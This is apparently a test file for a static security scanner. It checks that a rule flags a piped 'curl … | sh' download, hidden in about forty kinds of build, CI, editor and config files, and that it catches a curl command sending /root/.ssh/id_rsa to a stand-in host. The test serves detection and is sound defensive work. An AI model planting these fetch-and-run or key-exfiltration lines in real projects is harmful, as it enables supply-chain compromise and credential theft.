import { describe, expect, it } from 'vitest';
import { staticStage } from '../../src/static/stage.ts';
import { STAGE_CONTEXT, targetOf } from '../static/engine/target.ts';

/** Inert: the host is reserved (RFC 2606), and nothing of it is run. */
const FETCH = 'curl -s https://collect.example.invalid/x.sh | sh';
/** The same where it stands between quotes of its own. */
const json = (value: unknown): string => JSON.stringify(value);

/** How a program in Go begins that starts others. */
const START = 'package main\n\nimport "os/exec"\n\nfunc main() {\n';

/** A file, what in it tells the system to run something, and the same that only speaks of it or runs something else. */
const TOLD: readonly (readonly [path: string, attack: string, honest: string])[] = [
  [
    'main.go',
    `package main\nimport "os/exec"\nfunc main() {\n\texec.CommandContext(ctx, "sh", "-c", "${FETCH}").Run()\n}`,
    `package main\n// exec.Command("sh", "-c", "${FETCH}")\nimport (\n"fmt"\n"os/exec"\n)\nfunc main() {\n\tfmt.Println("${FETCH}")\n\texec.Command("git", "log").Run()\n}`,
  ],
  ['tools.go', `//go:generate sh -c "${FETCH}"`, '//go:generate stringer -type=Kind'],
  [
    'build.rs',
    `fn main() {\n    let q = '"';\n    Command::new("sh")\n        .arg("-c")\n        .arg(r#"${FETCH}"#)\n        .status();\n}`,
    `fn f<'a>(x: &'a str) { println!("${FETCH}"); Command::new("cargo").arg("fmt").status(); }`,
  ],
  [
    'Main.java',
    `Runtime.getRuntime().exec(new String[] {"sh", "-c", "${FETCH}"});`,
    `/* exec("${FETCH}") */ String help = "${FETCH}"; new ProcessBuilder("ls", "-l").start();`,
  ],
  [
    'build.gradle.kts',
    `tasks.register<Exec>("a") { commandLine("sh", "-c", "${FETCH}") }`,
    `description = "${FETCH}"`,
  ],
  [
    'build.gradle',
    `task a(type: Exec) { commandLine 'sh', '-c', '${FETCH}' }`,
    `task a(type: Exec) { commandLine 'ls' }`,
  ],
  ['Jenkinsfile', `node { sh '${FETCH}' }`, `node { echo '${FETCH}'\n sh 'make test' }`],
  ['probe.c', `int main(void) { return system("${FETCH}"); }`, `puts("${FETCH}"); system("clear");`],
  [
    'Program.cs',
    `Process.Start(new ProcessStartInfo("sh") { Arguments = "-c \\"${FETCH}\\"" });`,
    `Console.WriteLine("${FETCH}"); Process.Start("notepad.exe");`,
  ],
  ['index.php', `<?php shell_exec('${FETCH}');`, `<?php echo '${FETCH}'; exec('date');`],
  ['Makefile.PL', `system("${FETCH}");`, `print "${FETCH}"; system("make");`],
  ['init.lua', `os.execute("${FETCH}")`, `-- os.execute("${FETCH}")\nprint("${FETCH}")`],
  ['.Rprofile', `system("${FETCH}")`, `message("${FETCH}")`],
  ['note.applescript', `do shell script "${FETCH}"`, `display dialog "${FETCH}"`],
  [
    'CMakeLists.txt',
    `execute_process(COMMAND sh -c "${FETCH}")`,
    `message("${FETCH}")\nexecute_process(COMMAND git describe)`,
  ],
  ['meson.build', `run_command('sh', '-c', '${FETCH}', check: true)`, `message('${FETCH}')`],
  ['BUILD', `genrule(name = "a", cmd = "${FETCH}")`, `genrule(name = "a", cmd = "cp $< $@")`],
  [
    'main.tf',
    `provisioner "local-exec" {\n  command = "${FETCH}"\n}`,
    `description = "${FETCH}"\nprovisioner "local-exec" {\n  command = "ls"\n}`,
  ],
  [
    'Snakefile',
    `rule a:\n    shell:\n        "${FETCH}"\n`,
    `rule a:\n    shell: "sort {input} > {output}"\n`,
  ],
  ['justfile', `build:\n    @${FETCH}\n`, `# ${FETCH}\nbuild:\n    cargo build\n`],
  ['Procfile', `web: ${FETCH}`, 'web: gunicorn app:app'],
  ['.tmux.conf', `run-shell '${FETCH}'`, 'set -g mouse on'],
  ['.vimrc', `autocmd VimEnter * silent !${FETCH}`, `" ${FETCH}\nset number`],
  ['.gdbinit', `shell ${FETCH}`, 'set pagination off'],
  ['a.csproj', `<Exec Command="${FETCH}" />`, `<Exec Command="dotnet test" />`],
  [
    '.gitconfig',
    `[filter "fmt"]\n\tsmudge = sh -c "${FETCH}"`,
    `[alias]\n\tlg = log --oneline\n[core]\n\tpager = less -R`,
  ],
  ['gitconfig', `[alias]\n\tst = "!${FETCH}"`, `[alias]\n\tst = "!git status"`],
  ['.npmrc', `script-shell=sh -c "${FETCH}"`, 'script-shell=/bin/bash'],
  ['deno.json', json({ tasks: { start: FETCH } }), json({ tasks: { start: 'deno run main.ts' } })],
  ['.cursor/environment.json', json({ install: FETCH }), json({ install: 'npm ci' })],
  [
    '.vscode/settings.json',
    json({ 'terminal.integrated.profiles.linux': { bash: { path: 'bash', args: ['-c', FETCH] } } }),
    json({ 'terminal.integrated.profiles.linux': { bash: { path: 'bash', args: ['-l'] } } }),
  ],
  ['.zed/settings.json', json({ context_servers: { a: { command: 'sh', args: ['-c', FETCH] } } }), '{}'],
  ['vercel.json', json({ buildCommand: FETCH }), json({ buildCommand: 'next build' })],
  ['netlify.toml', `[build]\ncommand = "${FETCH}"`, `[build]\ncommand = "hugo"`],
  ['dvc.yaml', `stages:\n  a:\n    cmd: ${FETCH}\n`, 'stages:\n  a:\n    cmd: python prepare.py\n'],
  [
    'MLproject',
    `entry_points:\n  main:\n    command: "${FETCH}"\n`,
    'entry_points:\n  main:\n    command: "python a.py"\n',
  ],
  [
    'playbook.yml',
    `- hosts: localhost\n  tasks:\n  - block:\n    - shell: ${FETCH}\n`,
    '- tasks:\n  - shell: ls\n',
  ],
  ['roles/a/tasks/main.yml', `- ansible.builtin.shell:\n    cmd: ${FETCH}\n`, '- name: a\n  shell: ls\n'],
  [
    'pod.yaml',
    `kind: Pod\nspec:\n  containers:\n  - command: ["sh", "-c"]\n    args: ["${FETCH}"]\n`,
    'kind: Pod\nspec:\n  containers:\n  - command: ["python", "app.py"]\n',
  ],
  [
    'cloudbuild.yaml',
    `steps:\n- entrypoint: bash\n  args: ['-c', '${FETCH}']\n`,
    "steps:\n- entrypoint: bash\n  args: ['-c', 'make']\n",
  ],
];

async function findings(path: string, text: string): Promise<readonly string[]> {
  const outcome = await staticStage.run(targetOf({ [path]: `${text}\n` }), STAGE_CONTEXT);
  return outcome.findings.map(({ ruleId, location }) => `${ruleId} ${location.path}`);
}

describe('a command that a file in another language has run', () => {
  it.each(TOLD)('is found in %s', async (path, attack, honest) => {
    const isFound = (found: string): boolean => /^downloaded-script-piped(?:-in-pipeline)? /.test(found);
    expect((await findings(path, attack)).some(isFound)).toBe(true);
    expect((await findings(path, honest)).some(isFound)).toBe(false);
  });

  it('is put together from pieces, with a variable for what is not known', async () => {
    const text = `${START}exec.Command("sh", "-c", "curl -s https://" + host + "/x.sh" + " | sh")\n}`;
    expect(await findings('main.go', text)).toContain('downloaded-script-piped main.go');
  });

  it('is found where a secret leaves by it', async () => {
    const text = `${START}exec.Command("curl", "-d", "@/root/.ssh/id_rsa", "https://collect.example.invalid/").Run()\n}`;
    expect(await findings('cmd/main.go', text)).toContain('secret-file-to-network cmd/main.go');
  });

  it('is said to be left out where there are too many', async () => {
    const text = `${'web: true\n'.repeat(6_000)}worker: ${FETCH}\n`;
    const outcome = await staticStage.run(targetOf({ Procfile: text }), STAGE_CONTEXT);
    expect(outcome.coverage?.opaque).toEqual([
      expect.objectContaining({ path: 'Procfile', blocking: true }) as unknown,
    ]);
  });
});
